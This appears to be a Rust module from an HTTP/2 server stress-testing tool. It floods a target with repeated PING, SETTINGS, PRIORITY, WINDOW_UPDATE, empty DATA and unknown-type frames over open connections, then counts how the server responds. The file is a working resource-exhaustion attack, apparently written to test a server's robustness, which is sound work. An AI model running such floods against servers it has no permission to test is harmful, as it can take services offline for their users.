//! Floods of frames that bring nothing: pings, settings, priorities, window updates, empty DATA, and
//! kinds that nobody knows.

use std::time::Duration;

use crate::attacker::{Order, Tally};
use crate::wire::{
    DATA, END_HEADERS, HEADERS, PING, PRIORITY, Peer, SETTINGS, WINDOW_UPDATE, call, frame,
};

/// Frames of one write.
const AT_ONCE: u64 = 500;

pub(crate) async fn attack(order: Order) -> Tally {
    let mut all = Tally::default();
    let mut open = Vec::new();
    let kinds = kinds();
    let each = (order.inputs / kinds.len() as u64).max(AT_ONCE);
    for kind in &kinds {
        let Ok(mut peer) = Peer::greet(order.target, &[]).await else {
            all.ended += 1;
            continue;
        };
        // A call that is open, so that its stream is one.
        let mut ended =
            peer.write(&frame(HEADERS, END_HEADERS, 1, &call("UploadMemory"))).await.is_err();
        let mut sent = 0;
        let flood = kind.repeat(usize::try_from(AT_ONCE).expect("few"));
        while sent < each && !ended {
            ended = peer.write(&flood).await.is_err();
            sent += AT_ONCE;
        }
        all.inputs += sent.max(1);
        open.push(peer);
    }
    all.inputs += u64::from(open.is_empty());
    for mut peer in open {
        all.saw(0, peer.listen(Duration::from_millis(5), u64::MAX).await);
    }
    all
}

fn kinds() -> Vec<Vec<u8>> {
    vec![
        frame(PING, 0, 0, b"flooding"),
        frame(SETTINGS, 0, 0, &[]),
        frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]),
        frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16]),
        frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
        frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]),
        frame(DATA, 0, 1, &[]),
        frame(77, 255, 1, b"whatever"),
    ]
}
